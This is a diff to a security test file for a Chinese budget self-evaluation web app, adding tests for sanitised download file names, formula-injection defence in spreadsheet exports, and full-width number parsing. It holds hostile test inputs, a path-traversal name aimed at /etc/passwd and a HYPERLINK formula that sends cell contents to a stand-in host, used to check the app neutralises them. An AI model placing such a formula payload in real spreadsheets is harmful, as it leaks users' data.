@@ -2,7 +2,7 @@
 // resets, text/plain bodies, RFC 5987 file names, absurd dates and negative figures, and a login
 // delay that an attacker cannot turn into a permanent lockout of the real user.
 import { describe, expect, it, beforeAll, afterAll } from 'vitest';
-import { rfc5987 } from '../../src/server/download.js';
+import { contentDisposition, rfc5987, safeFileName } from '../../src/server/download.js';
 import { accountDelay, DEFAULT_LIMITS } from '../../src/server/throttle.js';
 import { PASSWORD, securityEnv, type Client, type SecurityEnv } from './env.js';
 
@@ -100,6 +100,84 @@ describe('bodies and downloads', () => {
   });
 });
 
+describe('download file names from user text', () => {
+  const starName = (header: string) => decodeURIComponent(/filename\*=UTF-8''(.*)$/.exec(header)![1]!);
+
+  it('keeps no folder, Windows-refused character, direction override or leading dot, and keeps the extension', () => {
+    expect(safeFileName('../../etc/passwd.xlsx')).toBe('_.._etc_passwd.xlsx');
+    expect(safeFileName('..\\邵阳:妇联*?"<>|.xlsx')).toBe('_邵阳_妇联______.xlsx');
+    expect(safeFileName('报告\u202excod.exe.docx')).toBe('报告xcod.exe.docx');
+    expect(safeFileName('...')).toBe('download');
+    expect(safeFileName(`${'很长的名字'.repeat(60)}.xlsx`)).toBe(`${'很长的名字'.repeat(24)}.xlsx`);
+    expect(safeFileName('2022年度武冈市妇联汇总.xlsx')).toBe('2022年度武冈市妇联汇总.xlsx');
+    const header = contentDisposition('attachment', 'a.xlsx', "1/2季度(上)'.xlsx");
+    expect(header).toMatch(/filename\*=UTF-8''[A-Za-z0-9%\-._~]+$/);
+    expect(starName(header)).toBe("1_2季度(上)'.xlsx");
+  });
+
+  it('names a dashboard export of a unit called "../邵阳/妇联(机关)" without a path and with ( ) encoded', async () => {
+    const unit = await admin.send('POST', '/api/admin/units', {
+      name: '../邵阳/妇联(机关)',
+      code: 'DL1',
+      type: '妇联',
+      level: 'county',
+      parentId: null,
+      fromYear: 2022,
+    });
+    expect(unit.statusCode, unit.body).toBe(201);
+    const id = (unit.json() as { id: string }).id;
+    const res = await admin.get(`/api/dashboard/${id}/export?year=2022`);
+    expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
+    const header = String(res.headers['content-disposition']);
+    expect(header).toMatch(/filename\*=UTF-8''[A-Za-z0-9%\-._~]+$/);
+    expect(starName(header)).toBe('_邵阳_妇联(机关)2022年度汇总.xlsx');
+  });
+});
+
+describe('spreadsheet exports of text that looks like a formula', () => {
+  const LURE = '=HYPERLINK("http://x.example/?"&A1,"点我")';
+  /** Every cell of every sheet: formulas as `=…`, text as it is. */
+  async function cells(bytes: Buffer): Promise<{ formulas: string[]; texts: string[] }> {
+    const { default: Excel } = await import('exceljs');
+    const wb = new Excel.Workbook();
+    await wb.xlsx.load(bytes as never);
+    const out = { formulas: [] as string[], texts: [] as string[] };
+    wb.eachSheet((ws) =>
+      ws.eachRow((row) =>
+        row.eachCell((c) => {
+          const v = c.value as unknown;
+          if (v && typeof v === 'object' && 'formula' in v) out.formulas.push(String((v as { formula: string }).formula));
+          else if (typeof v === 'string') out.texts.push(v);
+        }),
+      ),
+    );
+    return out;
+  }
+
+  it('keeps a deviation reason and a unit name starting with = as text cells in the 自评表 and the dashboard', async () => {
+    const e = (await filler.get(`/api/evaluations/${env.targets.own.evaluationId}`)).json() as Record<string, unknown> & {
+      version: number;
+      indicators: Record<string, unknown>[];
+    };
+    const { title, reportDate, profile, budget, budgetLines, threePublic, indicators, keyProjects, sections } = e;
+    const lured = indicators.map((i, k) => (k === 0 ? { ...i, deviationReason: LURE } : i));
+    const saved = await filler.send('PUT', `/api/evaluations/${env.targets.own.evaluationId}`, {
+      version: e.version,
+      content: { title, reportDate, profile, budget, budgetLines, threePublic, indicators: lured, keyProjects, sections },
+    });
+    expect(saved.statusCode, saved.body).toBe(200);
+    const sheet = await cells((await filler.get(`/api/evaluations/${env.targets.own.evaluationId}/report?format=xlsx`)).rawPayload);
+    expect(sheet.texts).toContain(LURE);
+    expect(sheet.formulas.filter((f) => /HYPERLINK/i.test(f))).toEqual([]);
+
+    const unit = await admin.send('POST', '/api/admin/units', { name: LURE, code: 'FX1', type: '妇联', level: 'county', parentId: null, fromYear: 2022 });
+    expect(unit.statusCode, unit.body).toBe(201);
+    const board = await cells((await admin.get(`/api/dashboard/${(unit.json() as { id: string }).id}/export?year=2022`)).rawPayload);
+    expect(board.texts.some((t) => t.includes(LURE))).toBe(true);
+    expect(board.formulas.filter((f) => /HYPERLINK/i.test(f))).toEqual([]);
+  });
+});
+
 describe('absurd figures', () => {
   it('refuses a report date of 9999-12-31, negative budgets and negative key-project counts with 400', async () => {
     const e = (await filler.get(`/api/evaluations/${env.targets.own.evaluationId}`)).json() as Record<string, unknown> & { version: number };
@@ -119,6 +197,36 @@ describe('absurd figures', () => {
     for (const [k, r] of Object.entries(cases)) expect(r.statusCode, `${k}: ${r.body}`).toBe(400);
     expect(cases.date.json()).toMatchObject({ message: expect.stringContaining('9999-12-31') });
     expect(cases.project.json()).toMatchObject({ message: expect.stringContaining('负数项目') });
+  });
+});
+
+describe('numbers typed with a Chinese input method', () => {
+  it('reads full-width digits, point and minus in an amount as the number (stored as ASCII), and leaves free text as typed', async () => {
+    const e = (await filler.get(`/api/evaluations/${env.targets.own.evaluationId}`)).json() as Record<string, unknown> & { version: number };
+    const { reportDate, profile, budget, threePublic, indicators, keyProjects, sections } = e;
+    const content = (initial: string, executed: string | null) => ({
+      title: '２０２２年度自评（１２３．４５）',
+      reportDate,
+      profile,
+      budget,
+      budgetLines: [{ key: 'total', label: '年度资金总额', initial, adjusted: null, executed }],
+      threePublic,
+      indicators,
+      keyProjects,
+      sections,
+    });
+    const res = await filler.send('PUT', `/api/evaluations/${env.targets.own.evaluationId}`, {
+      version: e.version,
+      content: content('１２３．４５', '１００'),
+    });
+    expect(res.statusCode, res.body).toBe(200);
+    const saved = res.json() as { title: string; budgetLines: { initial: string | null; executed: string | null }[] };
+    expect(saved.budgetLines[0]).toMatchObject({ initial: '123.45', executed: '100' });
+    expect(saved.title).toBe('２０２２年度自评（１２３．４５）');
+    // still one number per field: a full-width comma or a unit is not part of it
+    const bad = await filler.send('PUT', `/api/evaluations/${env.targets.own.evaluationId}`, { version: e.version + 1, content: content('１，２３４', null) });
+    expect(bad.statusCode).toBe(400);
+    expect(bad.json()).toMatchObject({ message: expect.stringContaining('budgetLines.0.initial') });
   });
 });
 
